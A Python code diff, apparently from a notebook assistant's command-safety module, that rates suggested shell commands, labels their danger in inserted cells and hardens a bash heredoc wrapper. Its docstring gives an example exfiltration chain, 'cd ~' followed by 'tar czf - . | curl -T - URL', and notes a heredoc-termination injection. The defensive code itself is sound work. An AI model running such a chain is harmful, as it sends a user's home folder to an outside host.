@@ -343,47 +343,64 @@ def suggestion_html(s: Suggestion, *, runs: list["RunOutcome"] | None = None,
     return "".join(out)
 
 
-def insert_cell_text(steps: list["CommandStep"]) -> str:
+def insert_cell_text(steps: list["CommandStep"], shell: str | None = None) -> str:
     """The cell that "Insert" adds: the commands exactly as shown, each under a comment naming its danger.
 
-    One ``!command`` line per command when that is verbatim: a single line without ``$``, ``{`` or ``}``
-    (which ``!`` would expand from Python), not ending in a backslash, and not ending in ``?`` (IPython reads
-    ``!cmd x?`` as a help request about ``x``, which evaluates it in the kernel). Anything else (several lines,
-    a heredoc, a loop, a ``$VAR``) becomes a ``%%bash`` cell. IPython feeds that cell to bash on its standard
-    input, so a first command that reads standard input (``perl``, ``python3``, ``sh``) would eat the rest of
-    the cell as its own program, which is not what was checked; the cell's commands are therefore given to
-    ``bash -c`` word for word, from a quoted heredoc, with standard input from /dev/null: the same reading as
-    the danger check's and the Run button's.
+    One ``!command`` line per command when that is verbatim and runs in the shell the check reads: IPython runs
+    ``!`` lines with ``$SHELL -c`` (``shell``, by default the kernel's), so only when that is bash; and only a
+    single line of printable ASCII without ``$``, ``{`` or ``}`` (which ``!`` would expand from Python), not
+    ending in a backslash, and not ending in ``?`` (IPython reads ``!cmd x?`` as a help request about ``x``,
+    which evaluates it in the kernel). Anything else becomes a ``%%bash`` cell (:func:`bash_cell`), which runs
+    the commands as ``bash -c`` would. Several commands go into one cell, so they are also judged together
+    (``cd ~`` and ``tar czf - . | curl -T - URL`` are each routine; together they send the home folder away).
     """
     from .confirm import risk_of
+    from .safety import assess
+
+    shell = os.environ.get("SHELL", "") if shell is None else shell
 
     def bang_safe(command: str) -> bool:
-        # one line as Python sees lines (it splits at \x0b, \x0c, \x1c-\x1e, \x85, U+2028, U+2029 too)
-        return (len(command.splitlines()) == 1 and not re.search(r"[${}]", command)
-                and not command.rstrip().endswith(("\\", "?"))
-                and not command.lstrip().startswith("!") and bool(command.strip()))
+        text = command.strip(_ASCII_SPACE)
+        return (re.fullmatch(r"[ -~]+", text) is not None and not re.search(r"[${}]", text)
+                and not text.endswith(("\\", "?")) and not text.startswith("!"))
 
-    as_bang = all(bang_safe(step.command) for step in steps)
+    as_bang = os.path.basename(shell) == "bash" and all(bang_safe(step.command) for step in steps)
     lines: list[str] = []
+    if len(steps) > 1:
+        together = assess("\n".join(step.command for step in steps))
+        worst = max((risk_of(step) for step in steps), key=lambda r: _LEVELS.index(r.level))
+        if _LEVELS.index(together.level) > _LEVELS.index(worst.level):
+            reasons = _one_line("; ".join(together.reasons)) or f"rated {together.level}"
+            lines.append(f"# {_BADGE[together.level]} (the commands together): {visible(reasons)}")
     for step in steps:
         risk = risk_of(step)
         if risk.level != "safe":
-            reasons = " ".join("; ".join(risk.reasons).split()) or f"rated {risk.level}"
+            reasons = _one_line("; ".join(risk.reasons)) or f"rated {risk.level}"
             lines.append(f"# {_BADGE[risk.level]}: {visible(reasons)}")
-        lines.append("!" + step.command.strip() if as_bang else step.command)
+        lines.append("!" + step.command.strip(_ASCII_SPACE) if as_bang else step.command)
     return "\n".join(lines) if as_bang else bash_cell("\n".join(lines))
+
+
+_ASCII_SPACE = " \t\n\r\x0b\x0c"
+
+
+def _one_line(text: str) -> str:
+    """Runs of ASCII whitespace as one space (as the panel's TypeScript does: the two agree on other spaces)."""
+    return re.sub(r"[ \t\n\r\x0b\x0c]+", " ", text).strip(_ASCII_SPACE)
+_LEVELS = ["safe", "caution", "dangerous"]
 
 
 def bash_cell(script: str) -> str:
     """A ``%%bash`` cell that runs ``script`` as ``bash -c`` would, whatever its commands read (see
     :func:`insert_cell_text`). The script is read into a variable from a quoted heredoc outside any ``$(...)``:
     inside one, bash 5.2 also ends a heredoc at a line that only starts with its end word (``END) $(cmd)``),
-    and the rest would run unchecked. The end word is one no line of the script is."""
+    and the rest would run unchecked. The newline the heredoc adds is taken off again (after a final backslash
+    it would continue the line). The end word is one no line of the script is."""
     end = "DEVGPT_END"
     while end in script.splitlines():
         end += "_"
     return (f"%%bash\nIFS= read -r -d '' DEVGPT_SCRIPT <<'{end}'\n{script}\n{end}\n"
-            f"bash -c \"$DEVGPT_SCRIPT\" </dev/null")
+            f"DEVGPT_SCRIPT=${{DEVGPT_SCRIPT%?}}\nbash -c \"$DEVGPT_SCRIPT\" </dev/null")
 
 
 def models_table(rows: list["ModelRow"]) -> str:
